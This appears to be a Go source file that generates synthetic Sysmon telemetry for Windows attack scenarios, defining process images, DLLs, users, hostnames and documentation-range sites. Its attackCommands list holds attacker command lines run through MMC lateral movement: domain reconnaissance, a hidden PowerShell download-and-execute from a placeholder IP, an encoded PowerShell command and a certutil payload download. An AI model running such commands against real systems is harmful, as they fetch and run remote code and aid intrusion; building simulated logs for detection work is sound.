package scenario

import (
	"crypto/md5"
	"crypto/sha256"
	"encoding/hex"
	"strings"
)

// image is an executable or DLL as Sysmon describes it from its version
// resource.
type image struct {
	Path, FileVersion, Description, Product, Company, OriginalFileName string
	Signature                                                          string
}

func (i image) name() string { return i.Path[strings.LastIndexByte(i.Path, '\\')+1:] }

// hashes is the Hashes field for the image with Sysmon's
// "MD5,SHA256,IMPHASH" setting. The values are derived from the path, so
// an image always has the same hashes and no real file's are copied.
func (i image) hashes() string {
	p := strings.ToLower(i.Path)
	m := md5.Sum([]byte("md5:" + p))
	s := sha256.Sum256([]byte("sha256:" + p))
	imp := md5.Sum([]byte("imphash:" + p))
	up := strings.ToUpper
	return "MD5=" + up(hex.EncodeToString(m[:])) + ",SHA256=" + up(hex.EncodeToString(s[:])) + ",IMPHASH=" + up(hex.EncodeToString(imp[:]))
}

const (
	winProduct = "Microsoft® Windows® Operating System"
	msCompany  = "Microsoft Corporation"
	winVersion = "10.0.19041.3636 (WinBuild.160101.0800)"
	msSigner   = "Microsoft Windows"
)

func win(path, desc, orig string) image {
	return image{Path: path, FileVersion: winVersion, Description: desc, Product: winProduct, Company: msCompany, OriginalFileName: orig, Signature: msSigner}
}

// The executables the scenarios start.
var (
	imgSvchost     = win(`C:\Windows\System32\svchost.exe`, "Host Process for Windows Services", "svchost.exe")
	imgServices    = win(`C:\Windows\System32\services.exe`, "Services and Controller app", "services.exe")
	imgLsass       = win(`C:\Windows\System32\lsass.exe`, "Local Security Authority Process", "lsass.exe")
	imgExplorer    = win(`C:\Windows\explorer.exe`, "Windows Explorer", "EXPLORER.EXE")
	imgTaskhostw   = win(`C:\Windows\System32\taskhostw.exe`, "Host Process for Windows Tasks", "taskhostw.exe")
	imgWmiPrvSE    = win(`C:\Windows\System32\wbem\WmiPrvSE.exe`, "WMI Provider Host", "Wmiprvse.exe")
	imgRuntimeBkr  = win(`C:\Windows\System32\RuntimeBroker.exe`, "Runtime Broker", "RuntimeBroker.exe")
	imgBgTaskHost  = win(`C:\Windows\System32\backgroundTaskHost.exe`, "Background Task Host", "backgroundTaskHost.exe")
	imgDllhost     = win(`C:\Windows\System32\dllhost.exe`, "COM Surrogate", "dllhost.exe")
	imgSearchProto = win(`C:\Windows\System32\SearchProtocolHost.exe`, "Microsoft Windows Search Protocol Host", "SearchProtocolHost.exe")
	imgSearchIdx   = win(`C:\Windows\System32\SearchIndexer.exe`, "Microsoft Windows Search Indexer", "SearchIndexer.exe")
	imgConhost     = win(`C:\Windows\System32\conhost.exe`, "Console Window Host", "CONHOST.EXE")
	imgCmd         = win(`C:\Windows\System32\cmd.exe`, "Windows Command Processor", "Cmd.Exe")
	imgPowershell  = win(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "Windows PowerShell", "PowerShell.EXE")
	imgWhoami      = win(`C:\Windows\System32\whoami.exe`, "whoami - displays logged on user information", "whoami.exe")
	imgIpconfig    = win(`C:\Windows\System32\ipconfig.exe`, "IP Configuration Utility", "ipconfig.exe")
	imgPing        = win(`C:\Windows\System32\PING.EXE`, "TCP/IP Ping Command", "ping.exe")
	imgNet         = win(`C:\Windows\System32\net.exe`, "Net Command", "net.exe")
	imgNotepad     = win(`C:\Windows\System32\notepad.exe`, "Notepad", "NOTEPAD.EXE")
	imgMmc         = win(`C:\Windows\System32\mmc.exe`, "Microsoft Management Console", "MMC.EXE")
	imgGpupdate    = win(`C:\Windows\System32\gpupdate.exe`, "Microsoft® Windows® GPUpdate Utility", "gpupdate.exe")
	imgSppsvc      = win(`C:\Windows\System32\sppsvc.exe`, "Microsoft Software Protection Platform Service", "sppsvc.exe")
	imgCompatTel   = win(`C:\Windows\System32\CompatTelRunner.exe`, "Microsoft Compatibility Telemetry", "CompatTelRunner.exe")
	imgMpCmdRun    = image{Path: `C:\Program Files\Windows Defender\MpCmdRun.exe`, FileVersion: "4.18.24090.11 (WinBuild.160101.0800)", Description: "Microsoft Malware Protection Command Line Utility", Product: winProduct, Company: msCompany, OriginalFileName: "MpCmdRun.exe", Signature: msSigner}
	imgChrome      = image{Path: `C:\Program Files\Google\Chrome\Application\chrome.exe`, FileVersion: "131.0.6778.86", Description: "Google Chrome", Product: "Google Chrome", Company: "Google LLC", OriginalFileName: "chrome.exe", Signature: "Google LLC"}
	imgEdge        = image{Path: `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, FileVersion: "131.0.2903.70", Description: "Microsoft Edge", Product: "Microsoft Edge", Company: msCompany, OriginalFileName: "msedge.exe", Signature: "Microsoft Corporation"}
	imgOutlook     = image{Path: `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, FileVersion: "16.0.18129.20116", Description: "Microsoft Outlook", Product: "Microsoft Outlook", Company: msCompany, OriginalFileName: "Outlook.exe", Signature: "Microsoft Corporation"}
	imgWord        = image{Path: `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, FileVersion: "16.0.18129.20116", Description: "Microsoft Word", Product: "Microsoft Office", Company: msCompany, OriginalFileName: "WinWord.exe", Signature: "Microsoft Corporation"}
	imgExcel       = image{Path: `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, FileVersion: "16.0.18129.20116", Description: "Microsoft Excel", Product: "Microsoft Office", Company: msCompany, OriginalFileName: "Excel.exe", Signature: "Microsoft Corporation"}
)

// dll is a library a process loads, logged by Sysmon's image-load event.
func dll(name, desc string) image {
	return win(`C:\Windows\System32\`+name, desc, name)
}

var (
	commonDLLs = []image{
		dll("ntdll.dll", "NT Layer DLL"), dll("kernel32.dll", "Windows NT BASE API Client DLL"),
		dll("KernelBase.dll", "Windows NT BASE API Client DLL"), dll("advapi32.dll", "Advanced Windows 32 Base API"),
		dll("combase.dll", "Microsoft COM for Windows"), dll("rpcrt4.dll", "Remote Procedure Call Runtime"),
		dll("ole32.dll", "Microsoft OLE for Windows"), dll("user32.dll", "Multi-User Windows USER API Client DLL"),
		dll("sechost.dll", "Host for SCM/SDDL/LSA Lookup APIs"), dll("bcrypt.dll", "Windows Cryptographic Primitives Library"),
	}
	netDLLs = []image{
		dll("ws2_32.dll", "Windows Socket 2.0 32-Bit DLL"), dll("mswsock.dll", "Microsoft Windows Sockets 2.0 Service Provider"),
		dll("dnsapi.dll", "DNS Client API DLL"), dll("winhttp.dll", "Windows HTTP Services"),
		dll("IPHLPAPI.DLL", "IP Helper API"), dll("wininet.dll", "Internet Extensions for Win32"),
	}
	psDLLs = []image{
		dll("amsi.dll", "Anti-Malware Scan Interface"),
		win(`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\clr.dll`, "Microsoft .NET Runtime Common Language Runtime - WorkStation", "clr.dll"),
		win(`C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\a8e1b7a5a3d2c1f0e9d8c7b6a5f4e3d2\System.Management.Automation.ni.dll`, "System.Management.Automation", "System.Management.Automation.dll"),
	}
	mmcDLLs = []image{
		dll("mmcbase.dll", "MMC Base DLL"), dll("mmcndmgr.dll", "MMC Node Manager DLL"),
		dll("mmcshext.dll", "MMC Shell Extension DLL"),
	}
)

// Commands an attacker runs through MMC20.Application's ExecuteShellCommand.
var attackCommands = []struct {
	img  image
	args string
	out  string // a file the command writes, if any
}{
	{imgCmd, `/c whoami /all > C:\Users\Public\o.txt`, `C:\Users\Public\o.txt`},
	{imgCmd, `/c net group "Domain Admins" /domain > C:\Windows\Temp\da.txt 2>&1`, `C:\Windows\Temp\da.txt`},
	{imgCmd, `/c ipconfig /all & systeminfo > C:\ProgramData\si.log`, `C:\ProgramData\si.log`},
	{imgPowershell, `-nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')"`, ""},
	{imgPowershell, `-NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, ""},
	{imgCmd, `/Q /c certutil -urlcache -split -f http://203.0.113.77/u.bin C:\Users\Public\u.exe`, `C:\Users\Public\u.exe`},
}

// Public sites the users browse: name and addresses from the
// documentation ranges, so no real host is named.
var sites = []struct {
	name  string
	addrs []string
}{
	{"www.example.com", []string{"203.0.113.10"}},
	{"login.microsoftonline.example", []string{"203.0.113.21", "203.0.113.22"}},
	{"outlook.office365.example", []string{"198.51.100.40", "198.51.100.41"}},
	{"teams.example.net", []string{"198.51.100.55"}},
	{"cdn.example.org", []string{"192.0.2.80", "192.0.2.81"}},
	{"news.example.org", []string{"192.0.2.120"}},
	{"update.example.com", []string{"203.0.113.130"}},
	{"intranet.corp.example", []string{"10.20.10.30"}},
	{"wiki.corp.example", []string{"10.20.10.31"}},
	{"ctldl.windowsupdate.example", []string{"198.51.100.90"}},
}

// The domain's user accounts: interactive users and their admin twins.
var firstNames = []string{"jdoe", "asmith", "mgarcia", "lchen", "kpatel", "rnovak", "tkim", "omurphy", "sdubois", "hnguyen", "bschmidt", "ecosta"}

// Departments that name workstations.
var departments = []string{"FIN", "HR", "ENG", "OPS", "SAL", "LEG", "IT", "MKT"}

// Server roles that name servers.
var serverRoles = []string{"FS", "APP", "SQL", "WEB", "PRN", "CA"}

// Well-known port names Sysmon writes beside port numbers.
func portName(p uint16) string {
	switch p {
	case 53:
		return "domain"
	case 88:
		return "kerberos"
	case 135:
		return "epmap"
	case 389:
		return "ldap"
	case 443:
		return "https"
	case 445:
		return "microsoft-ds"
	case 3389:
		return "ms-wbt-server"
	case 80:
		return "http"
	}
	return "-"
}
